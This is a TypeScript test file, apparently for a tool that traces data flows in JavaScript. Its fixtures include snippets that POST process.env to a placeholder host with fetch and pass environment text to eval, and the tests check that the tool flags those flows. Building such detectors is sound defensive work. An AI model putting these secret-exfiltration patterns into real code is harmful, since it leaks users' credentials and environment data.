import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, flowLines } from '../../test/behave.ts';

const SENT = 'process.env → fetch as content';
const CLASSES = (method: string): string =>
  `class Settings { constructor(all) { this.all = all; } ${method}() { return this.all; } } class Reporter { constructor(settings) { this.settings = settings; } report() { fetch('https://a.invalid', { method: 'POST', body: this.settings.${method}() }); } } new Settings(process.env); exports.Reporter = Reporter;`;

describe('a method of an object that others hand in', () => {
  it('is that of the one class of the file that has it', () => assert.deepEqual(flowLines({ 'index.js': CLASSES('everything') }), [SENT]));

  it('is nobody’s where lists and streams have one of that name', () =>
    assert.deepEqual(flowLines({ 'index.js': CLASSES('entries') }), []));

  it('is nobody’s where two classes have it', () =>
    assert.deepEqual(flowLines({ 'index.js': `class Other { everything() { return 1; } } ${CLASSES('everything')}` }), []));
});

describe('an object that functions are handed one after the other', () => {
  const written = (code: string): string[] =>
    behaviourOf({
      'index.js': `const fs = require('fs'); const name = c => { c.file = '/opt/x'; }; const write = c => { fs.writeFileSync(c.file, 'x'); }; ${code}`,
    }).effects.flatMap(({ kind, target }) => (kind === 'writes file' ? [target] : []));
  for (const [what, code] of [
    ['by name', 'const c = {}; name(c); write(c);'],
    ['out of a list', '(list => c => { for (const one of list) one(c); })([name, write])({});'],
    [
      'each by the one before it',
      '(list => c => { const go = at => list[at] && list[at](c, () => go(at + 1)); go(0); })([name, write])({});',
    ],
    ['by what a table has under a name', `const c = {}, all = { name, write }; const go = key => all[key](c); go('name'); go('write');`],
  ] as const)
    it(`has what the first said of it, ${what}`, () => assert.deepEqual(written(code), ['/opt/x']));

  it('has neither where two say something else', () =>
    assert.deepEqual(written(`const other = c => { c.file = '/opt/y'; }; const c = {}; name(c); other(c); write(c);`), ['']));

  it('keeps what is made of what was put there before', () =>
    assert.deepEqual(
      flowLines({
        'index.js': `const c = {}; const ask = c => { c.text = process.env; }; const run = c => { c.made = eval(c.text); }; const all = { ask, run }; const go = key => all[key](c); go('ask'); go('run');`,
      }),
      ['process.env → eval as content'],
    ));
});
